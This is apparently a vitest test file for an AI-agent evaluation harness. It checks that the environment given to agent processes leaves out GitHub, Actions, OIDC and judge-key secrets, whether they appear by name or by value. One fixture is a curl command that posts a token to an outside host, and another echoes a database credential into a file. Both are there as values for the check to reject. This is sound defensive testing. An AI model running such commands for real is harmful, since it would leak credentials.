import { describe, expect, it } from 'vitest';
import { runCommandAgent } from '../../src/agent/command.js';
import { AgentEnvError, buildAgentEnv, checkAgentEnv } from '../../src/agent/env.js';
import type { EpisodeVars } from '../../src/agent/types.js';
import { fixtures, runnerEnv, scratchDir } from './helpers.js';

const episode: EpisodeVars = {
  toolsUrl: 'http://127.0.0.1:4100/e/abc',
  mcpUrl: 'http://127.0.0.1:4100/e/abc/mcp',
  episode: 'refund-basic/head/2',
  scenario: 'refund-basic',
  seed: 1234,
  side: 'head',
};

describe('buildAgentEnv', () => {
  it('takes only PATH, HOME, locale variables, agent.env and pass_env from the harness', () => {
    const env = buildAgentEnv({
      harnessEnv: runnerEnv({ OPENAI_API_KEY: 'sk-test' }),
      env: { LOG_LEVEL: 'warn' },
      passEnv: ['OPENAI_API_KEY', 'NOT_SET_ANYWHERE'],
      episode,
    });
    expect(env).toEqual({
      PATH: process.env.PATH,
      HOME: process.env.HOME ?? '/root',
      LANG: 'C.UTF-8',
      LC_ALL: 'C.UTF-8',
      TZ: 'UTC',
      LOG_LEVEL: 'warn',
      OPENAI_API_KEY: 'sk-test',
      STATEGATE_TOOLS_URL: episode.toolsUrl,
      STATEGATE_MCP_URL: episode.mcpUrl,
      STATEGATE_EPISODE: 'refund-basic/head/2',
      STATEGATE_SCENARIO: 'refund-basic',
      STATEGATE_SEED: '1234',
      STATEGATE_SIDE: 'head',
    });
  });

  it('lets neither agent.env nor pass_env override the episode variables', () => {
    const env = buildAgentEnv({
      harnessEnv: runnerEnv({ STATEGATE_SEED: '1' }),
      env: { STATEGATE_EPISODE: 'mine' },
      passEnv: ['STATEGATE_SEED'],
      episode: { ...episode, databaseUrl: 'postgres://episode' },
    });
    expect(env.STATEGATE_EPISODE).toBe(episode.episode);
    expect(env.STATEGATE_SEED).toBe('1234');
    expect(env.DATABASE_URL).toBe('postgres://episode');
  });

  it("refuses the harness's addresses in agent.env and pass_env: the sandbox carries them in", () => {
    // The agent's network is its own; a suite's STATEGATE_TOOLS_URL or DATABASE_URL would have the
    // harness connect it to whatever server the value names.
    for (const [env, passEnv] of [
      [{ DATABASE_URL: 'postgres://postgres@127.0.0.1:5432/postgres' }, []],
      [{ STATEGATE_TOOLS_URL: 'http://127.0.0.1:9/' }, []],
      [{ STATEGATE_MCP_URL: 'http://192.0.2.2:80/' }, []],
      [{}, ['DATABASE_URL']],
    ] as const) {
      const build = () =>
        buildAgentEnv({
          harnessEnv: runnerEnv({ DATABASE_URL: 'postgres://x@127.0.0.1/db' }),
          env,
          passEnv: [...passEnv],
          episode,
        });
      expect(build).toThrow(AgentEnvError);
      expect(build).toThrow(/is set by stategate/);
    }
  });

  it('sets DATABASE_URL only when the episode exposes its database', () => {
    const env = buildAgentEnv({
      harnessEnv: runnerEnv({ DATABASE_URL: 'postgres://harness' }),
      env: {},
      passEnv: [],
      episode,
    });
    expect(env).not.toHaveProperty('DATABASE_URL');
  });

  it('passes INPUT_* only when named, and never the workflow token', () => {
    const env = buildAgentEnv({
      harnessEnv: runnerEnv(),
      env: {},
      passEnv: ['INPUT_FOO'],
      episode,
    });
    expect(env.INPUT_FOO).toBe('an action input');
    expect(env).not.toHaveProperty('INPUT_GITHUB_TOKEN');
    expect(env).not.toHaveProperty('GITHUB_TOKEN');
    expect(
      checkAgentEnv({
        harnessEnv: runnerEnv({ 'INPUT_GITHUB-TOKEN': 'ghs_inputTokenThatMustNotLeak' }),
        env: {},
        passEnv: ['GITHUB_TOKEN', 'INPUT_GITHUB-TOKEN', 'STATEGATE_DATABASE_URL'],
      }),
    ).toEqual([
      'agent.pass_env: GITHUB_TOKEN is never passed to an agent',
      'agent.pass_env: INPUT_GITHUB-TOKEN is never passed to an agent',
      'agent.pass_env: STATEGATE_DATABASE_URL is never passed to an agent',
    ]);
  });

  it('refuses a token expanded into the command, serve, setup or url, or inside a longer value', () => {
    const harnessEnv = runnerEnv({ STATEGATE_DATABASE_URL: 'postgres://postgres:admin-secret@db/postgres' });
    expect(
      checkAgentEnv({
        harnessEnv,
        env: { HEADER: 'Bearer ghs_runnerTokenThatMustNotLeak' },
        passEnv: [],
        strings: {
          'agent.command': 'curl -d ghs_runnerTokenThatMustNotLeak https://example.invalid; node agent.mjs',
          'agent.setup': 'echo postgres://postgres:admin-secret@db/postgres > /tmp/x',
          'agent.serve': undefined,
          'agent.url': 'http://127.0.0.1:{port}/run',
        },
      }),
    ).toEqual([
      'HEADER carries the value of GITHUB_TOKEN, which is never passed to an agent',
      'agent.command carries the value of GITHUB_TOKEN, which never reaches an agent: remove the ${GITHUB_TOKEN} reference',
      'agent.setup carries the value of STATEGATE_DATABASE_URL, which never reaches an agent: remove the ${STATEGATE_DATABASE_URL} reference',
    ]);
  });

  it("refuses GH_TOKEN and the judge's key (judge.api_key_env) by name and by value", () => {
    const harnessEnv = { GH_TOKEN: 'ghs_cli_token_value', JUDGE_KEY: 'sk-judge-key-value', OTHER: 'x' };
    expect(
      checkAgentEnv({
        harnessEnv,
        env: { COPY: 'sk-judge-key-value' },
        passEnv: ['GH_TOKEN', 'JUDGE_KEY', 'OTHER'],
        strings: { 'agent.image': 'r/img:sk-judge-key-value' },
        judgeKeyEnv: 'JUDGE_KEY',
      }),
    ).toEqual([
      'agent.pass_env: GH_TOKEN is never passed to an agent',
      "agent.pass_env: JUDGE_KEY is the judge's key (judge.api_key_env) and is never passed to an agent: give the agent a key of its own",
      'COPY carries the value of JUDGE_KEY, which is never passed to an agent',
      'agent.image carries the value of JUDGE_KEY, which never reaches an agent: remove the ${JUDGE_KEY} reference',
    ]);
    // Without a judge, the same variable is the agent's to have.
    expect(checkAgentEnv({ harnessEnv, env: {}, passEnv: ['JUDGE_KEY'] })).toEqual([]);
  });

  it('without an episode gives the shared environment for setup and serve', () => {
    const env = buildAgentEnv({ harnessEnv: runnerEnv(), env: { A: '1' }, passEnv: [] });
    expect(Object.keys(env).sort()).toEqual(['A', 'HOME', 'LANG', 'LC_ALL', 'PATH', 'TZ']);
  });

  it('refuses the runtime and OIDC tokens by name and by value, naming every problem', () => {
    const opts = {
      harnessEnv: runnerEnv(),
      env: { ACTIONS_ID_TOKEN_REQUEST_URL: 'x', SNEAKY: 'actions-runtime-token-value' },
      passEnv: ['ACTIONS_RUNTIME_TOKEN', 'BAD=NAME'],
    };
    expect(checkAgentEnv(opts)).toEqual([
      'agent.pass_env: ACTIONS_RUNTIME_TOKEN is never passed to an agent',
      'agent.pass_env: "BAD=NAME" is not a variable name',
      'agent.env: ACTIONS_ID_TOKEN_REQUEST_URL is never passed to an agent',
      'SNEAKY carries the value of ACTIONS_RUNTIME_TOKEN, which is never passed to an agent',
    ]);
    expect(() => buildAgentEnv({ ...opts, episode })).toThrow(AgentEnvError);
    expect(() => buildAgentEnv({ ...opts, episode })).toThrow(
      /SNEAKY carries the value of ACTIONS_RUNTIME_TOKEN/,
    );
  });
});

describe('the environment a real agent process sees', () => {
  it('has no runner secrets, and has pass_env, agent.env and the STATEGATE_* variables', async () => {
    const { dir, cleanup } = await scratchDir();
    try {
      const env = buildAgentEnv({
        harnessEnv: runnerEnv({ OPENAI_API_KEY: 'sk-test' }),
        env: { LOG_LEVEL: 'warn' },
        passEnv: ['OPENAI_API_KEY'],
        episode,
      });
      const run = await runCommandAgent({
        command: `node ${fixtures}echo-agent.mjs`,
        cwd: dir,
        env,
        input: { message: 'hi', context: {} },
        timeoutMs: 30_000,
      });
      expect(run.resultError).toBeUndefined();
      const seen = JSON.parse(run.result!.reply).env as Record<string, string>;
      for (const secret of [
        'GITHUB_TOKEN',
        'ACTIONS_RUNTIME_TOKEN',
        'ACTIONS_ID_TOKEN_REQUEST_URL',
        'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
        'INPUT_FOO',
        'INPUT_GITHUB_TOKEN',
        'RUNNER_TEMP',
        'NODE_OPTIONS',
      ]) {
        expect(seen).not.toHaveProperty(secret);
      }
      expect(seen.OPENAI_API_KEY).toBe('sk-test');
      expect(seen.LOG_LEVEL).toBe('warn');
      expect(seen.STATEGATE_TOOLS_URL).toBe(episode.toolsUrl);
      expect(seen.STATEGATE_MCP_URL).toBe(episode.mcpUrl);
      expect(seen.STATEGATE_EPISODE).toBe(episode.episode);
      expect(seen.STATEGATE_SCENARIO).toBe('refund-basic');
      expect(seen.STATEGATE_SEED).toBe('1234');
      expect(seen.STATEGATE_SIDE).toBe('head');
    } finally {
      await cleanup();
    }
  });
});
